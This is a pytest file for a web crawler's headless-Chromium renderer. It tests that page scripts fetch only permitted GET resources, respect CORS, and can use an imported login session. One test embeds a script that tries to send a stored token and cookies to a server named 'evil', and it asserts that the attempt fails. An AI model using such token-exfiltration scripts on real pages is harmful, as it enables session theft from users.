"""Real pages in a real Chromium: what their scripts ask for is brought with the session, and within rules."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx2
import orjson
import pytest

from crawler.auth.pages.imported_session import ImportedSession
from crawler.auth.scheme import Scheme
from crawler.fetch.fetcher import HttpFetcher
from crawler.fetch.network import Network
from crawler.fetch.tls import tls_context
from crawler.outcome import HtmlFetched
from crawler.rendering.browser_session import SessionForContexts, SignedIn
from crawler.rendering.pool import PagePool, PoolCaps
from crawler.rendering.rendered import Rendered, RenderRequest
from crawler.rendering.renderer import Renderer
from crawler.rendering.resources import SiteResources
from crawler.rules.guard import Guard
from tests.crawler.rendering.loading import address
from tests.support.changing_site import Answer, ChangingSite, Declared, redirect, serve_site

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not (shutil.which("chromium-headless-shell") or shutil.which("chromium")),
        reason="the Debian package chromium-headless-shell is missing",
    ),
]
TOKEN = "t0k3n-4711-of-the-app"
SECRET = "s-4711-secret-9"
SHOW = "const show = text => { document.getElementById('out').append(text + ';'); };"


def page_of(script: str) -> bytes:
    return f"<!doctype html><title>App</title><div id=out></div><script>{SHOW}{script}</script>".encode()


@asynccontextmanager
async def browser(*seeds: str, schemes: tuple[Scheme, ...] = ()) -> AsyncIterator[Renderer]:
    logins: Mapping[str, httpx2.Auth] = {origin: each.auth for each in schemes for origin in each.origins}
    network = Network(Guard.for_seeds([address(seed) for seed in seeds]), tls_context(None))
    fetcher = HttpFetcher(network, max_bytes=1_000_000, seconds=10.0, logins=logins)
    signed_in = SignedIn.by(schemes, lambda _url, _target: False)
    pool = PagePool(PoolCaps(pages=2))
    renderer = Renderer(
        pool,
        SiteResources(fetcher, signed_in=signed_in),
        prepare=SessionForContexts(signed_in),
        discovers=False,
    )
    try:
        yield renderer
    finally:
        await renderer.aclose()
        await pool.aclose()
        await fetcher.aclose()


async def rendered(renderer: Renderer, url: str, body: bytes, **headers: str) -> Rendered:
    named = {
        "content-type": "text/html",
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    document = HtmlFetched(body, 200, "text/html; charset=utf-8", named, 1)
    outcome = await renderer.render(RenderRequest(url, document))
    assert isinstance(outcome, Rendered), outcome
    return outcome


def said(page: Rendered) -> list[str]:
    """What the page's script showed."""
    return page.html.partition('<div id="out">')[2].partition("</div>")[0].split(";")[:-1]


def json(body: bytes, **headers: str) -> Answer:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return Answer(body, content_type="application/json", headers=named, etag=False)


async def test_what_scripts_ask_for_comes_and_what_would_change_something_does_not() -> None:
    pages: dict[str, Declared] = {
        "/api": json(b'"data"'),
        "/moved": redirect("/api"),
        "/lib.js": Answer(b"show('library');", content_type="text/javascript", etag=False),
    }
    script = """
    const ask = (name, url, init) => fetch(url, init).then(r => r.json()).then(t => show(name + ' ' + t),
      () => show(name + ' failed'));
    ask('api', '/api').then(() => ask('moved', '/moved')).then(() => ask('post', '/api', {method: 'POST'}))
      .then(() => ask('deleted', '/items/3/delete')).then(() => ask('tracker', '/matomo.php'));
    navigator.sendBeacon('/beacon', 'x');
    </script><script src=/lib.js></script><img src=/logo.png onerror="show('no picture')"><script>
    """
    with serve_site(pages) as site:
        async with browser(site.url()) as renderer:
            first = await rendered(renderer, site.url("/a"), page_of(script))
            await rendered(renderer, site.url("/b"), page_of(script))
    assert "library" in said(first)
    assert [each for each in said(first) if each != "library"] == [
        "api data",
        "moved data",
        "post failed",
        "deleted failed",
        "tracker failed",
    ]
    assert site.asked("/lib.js") == [200]
    assert {each.path for each in site.log} == {"/api", "/moved", "/lib.js"}
    assert "its scripts wanted to POST, and only GET and HEAD read" in first.notes


async def test_another_origin_answers_what_it_lets_the_page_read() -> None:
    with serve_site({"/open": json(b"1", Access_Control_Allow_Origin="*"), "/closed": json(b"2")}) as other:
        script = f"""
        const ask = path => fetch('{other.origin}' + path).then(r => r.text())
          .then(t => show(path + ' ' + t), () => show(path + ' closed'));
        ask('/open').then(() => ask('/closed'));
        """
        with serve_site() as site:
            async with browser(site.url(), other.url()) as renderer:
                page = await rendered(renderer, site.url("/a"), page_of(script))
    assert said(page) == ["/open 1", "/closed closed"]
    assert [each.headers.get("origin") for each in other.log] == [site.origin] * 2


def imported(site: ChangingSite, folder: Path) -> ImportedSession:
    named: dict[str, Any] = {"domain": "127.0.0.1", "path": "/", "expires": -1, "secure": False}
    state = {
        "cookies": [
            {**named, "name": "sid", "value": SECRET, "httpOnly": True},
            {**named, "name": "xsrf", "value": "x-1", "httpOnly": False},
        ],
        "origins": [
            {
                "origin": site.origin,
                "localStorage": [{"name": "token", "value": TOKEN}],
                "sessionStorage": [{"name": "tab", "value": "7"}],
            }
        ],
    }
    path = folder / "state.json"
    path.write_bytes(orjson.dumps(state))
    return ImportedSession(origins=[site.origin], probe=address(site.url()), cookies={}, storage_state=path)


async def test_an_application_finds_its_token_and_its_login_as_its_user_left_them(tmp_path: Path) -> None:
    script = """
    show(document.cookie); show(sessionStorage.tab);
    fetch('/api', {headers: {authorization: 'Bearer ' + localStorage.token}})
      .then(r => r.text()).then(t => show(t)).then(() => fetch('/set')).then(() => show(document.cookie));
    """

    def api(headers: Mapping[str, str]) -> Answer:
        knows = headers.get("authorization") == f"Bearer {TOKEN}" and f"sid={SECRET}" in headers["cookie"]
        return json(b"inside" if knows else b"outside")

    pages: dict[str, Declared] = {"/api": api, "/set": json(b"", Set_Cookie="seen=1; Path=/")}
    with serve_site(pages) as site:
        async with browser(site.url(), schemes=(imported(site, tmp_path),)) as renderer:
            page = await rendered(renderer, site.url("/a"), page_of(script))
    assert said(page) == ["xsrf=x-1", "7", "inside", "xsrf=x-1", " seen=1"]
    assert SECRET not in page.html


async def test_a_script_of_the_page_gives_nothing_of_the_session_to_anybody(tmp_path: Path) -> None:
    with serve_site({"/": json(b"", Access_Control_Allow_Origin="*")}) as evil, serve_site() as site:
        script = f"""
        const give = url => fetch(url).then(() => show('given'), () => show('kept'));
        give('{evil.origin}/?t=' + localStorage.token)
          .then(() => give('{evil.origin}/' + btoa(localStorage.token)))
          .then(() => fetch('{evil.origin}/', {{credentials: 'include'}})).catch(() => show('end'));
        """
        async with browser(site.url(), evil.url(), schemes=(imported(site, tmp_path),)) as renderer:
            page = await rendered(renderer, site.url("/a"), page_of(script))
    assert said(page) == ["kept", "kept", "end"]
    assert [each.path for each in evil.log] == ["/"]
    assert "x-1" not in str(evil.log)
    assert SECRET not in str(evil.log)
    assert "cookie" not in evil.log[0].headers


async def test_a_token_that_the_document_sets_is_there_for_its_scripts() -> None:
    script = """
    const token = document.cookie.match(/xsrf=(\\w+)/)[1];
    fetch('/api', {headers: {'x-xsrf-token': token}}).then(r => r.text()).then(show);
    """

    def api(headers: Mapping[str, str]) -> Answer:
        return json(f"{headers['x-xsrf-token']} {headers['cookie']}".encode())

    with serve_site({"/api": api}) as site:
        async with browser(site.url()) as renderer:
            cookies = "xsrf=abc; Path=/, sid=1; HttpOnly"
            page = await rendered(renderer, site.url("/a"), page_of(script), set_cookie=cookies)
    assert said(page) == ["abc xsrf=abc"]
